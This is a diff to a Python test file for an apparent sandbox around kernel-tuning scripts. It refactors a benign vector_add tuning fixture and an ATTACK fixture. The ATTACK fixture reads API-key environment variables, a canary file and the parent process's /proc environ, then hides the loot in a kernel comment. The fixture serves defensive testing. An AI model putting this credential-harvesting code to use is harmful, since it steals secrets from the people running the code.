@@ -25,11 +25,29 @@ from app.cli import main
 KEY = "sk-canary-7f3a9c1e5b2d4a60"
 CANARY = "CANARY-home-file-41c7"
 
-ATTACK = '''
-import os, socket, subprocess
+# the script's honest part: a C vector_add, tuned over a block size, with its answer
+KERNEL = '''
+KERNEL = """
+void vector_add(float *c, const float *a, const float *b, int n) {
+    for (int i = 0; i < n; i++) c[i] = a[i] + b[i];
+}
+"""
+'''
+TUNE = '''
+size = 1000
+a = np.random.randn(size).astype(np.float32)
+b = np.random.randn(size).astype(np.float32)
+c = np.zeros_like(b)
+tune_kernel("vector_add", kernel, size, [c, a, b, np.int32(size)], OrderedDict(block=[1, 2]),
+            lang="C", answer=[a + b, None, None, None])
+'''
+IMPORTS = '''
 from collections import OrderedDict
 import numpy as np
 from kernel_tuner import tune_kernel
+'''
+ATTACK = IMPORTS + KERNEL + '''
+import os, socket, subprocess
 
 loot = os.environ.get("KERNELSWARM_LLM_API_KEY", "") + os.environ.get("OPENAI_API_KEY", "")
 for path in (CANARY_PATH, "/proc/%d/environ" % os.getppid()):
@@ -51,18 +69,8 @@ try:
                    timeout=5)
 except Exception:
     pass
-kernel = "/* " + loot.replace("*/", "") + " */\\n" + """
-void vector_add(float *c, const float *a, const float *b, int n) {
-    for (int i = 0; i < n; i++) c[i] = a[i] + b[i];
-}
-"""
-size = 1000
-a = np.random.randn(size).astype(np.float32)
-b = np.random.randn(size).astype(np.float32)
-c = np.zeros_like(b)
-tune_kernel("vector_add", kernel, size, [c, a, b, np.int32(size)], OrderedDict(block=[1, 2]),
-            lang="C", answer=[a + b, None, None, None])
-'''
+kernel = "/* " + loot.replace("*/", "") + " */\\n" + KERNEL
+''' + TUNE
 
 IN_OPEN, IN_ACCESS = 0x20, 0x01
 
@@ -182,23 +190,7 @@ def test_a_script_reading_outside_its_directory_is_told_why(tmp_path, capsys):
     assert "FileNotFoundError" in err and "own directory" in err and "--trust-script" in err
 
 
-HONEST = '''
-from collections import OrderedDict
-import numpy as np
-from kernel_tuner import tune_kernel
-
-kernel = """
-void vector_add(float *c, const float *a, const float *b, int n) {
-    for (int i = 0; i < n; i++) c[i] = a[i] + b[i];
-}
-"""
-size = 1000
-a = np.random.randn(size).astype(np.float32)
-b = np.random.randn(size).astype(np.float32)
-c = np.zeros_like(b)
-tune_kernel("vector_add", kernel, size, [c, a, b, np.int32(size)], OrderedDict(block=[1, 2]),
-            lang="C", answer=[a + b, None, None, None])
-'''
+HONEST = IMPORTS + KERNEL + "kernel = KERNEL\n" + TUNE
 
 
 @pytest.mark.skipif(os.getuid() != 0 or not shutil.which("setpriv"),
